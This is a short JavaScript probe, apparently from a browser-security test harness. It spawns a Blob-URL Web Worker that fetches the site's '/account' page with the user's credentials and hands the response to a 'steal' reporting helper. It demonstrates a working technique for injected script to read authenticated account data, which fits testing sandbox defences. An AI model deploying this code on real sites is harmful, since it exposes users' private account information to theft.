// Tries: ask the site's own server from a worker.
(async () => {
  const code = `fetch("${new URL("/account", location.href)}", { credentials: "include" }).then((r) => r.text()).then(postMessage, (e) => postMessage(String(e)))`;
  const answer = new Promise((done) => {
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = (event) => done(event.data);
    worker.onerror = () => done("the worker failed");
    setTimeout(done, 2000, "no answer");
  });
  steal("call-from-worker", await answer.catch(String));
  over("call-from-worker");
})();
